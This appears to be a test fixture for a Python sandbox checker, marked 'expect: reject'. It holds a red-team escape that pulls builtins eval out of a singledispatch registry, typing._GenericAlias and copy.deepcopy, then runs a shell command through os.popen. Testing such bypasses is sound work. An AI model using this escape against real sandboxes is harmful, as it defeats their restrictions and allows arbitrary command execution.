# expect: reject module_attribute
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, ran a process)
# why: twelfth red team, family S: list(f.registry) of a singledispatch function hands back the annotation class type by value

# Mechanism: functools.singledispatch's registry hands back the classes the program wrote as annotations; an annotation 'x: type' (allowed: type by name in an annotation) puts the builtin type in f.registry, list(f.registry)[-1] is type by value (class_value/builtin never see it); as in 11b family A, type(typing.List[int]) is typing._GenericAlias, built with name='__builtins__', whose reduce under copy.deepcopy hands back builtins eval
# Goal reached: eval obtained and called: a process (id) run
# Output seen under python3 (3.11), run in a fresh temp dir:
#   (the red team's capture named its temp file; re-run here it printed the eval function and the output of id)
import functools, typing, copy

@functools.singledispatch
def f(x):
    return 0

@f.register
def _(x: type):
    return 1

ty = list(f.registry)[-1]
alias_class = ty(typing.List[int])
ev = copy.deepcopy(alias_class(int, ("eval",), name="__builtins__"))
print(ev)
print(ev("__import__('os').popen('id').read()"), end="")
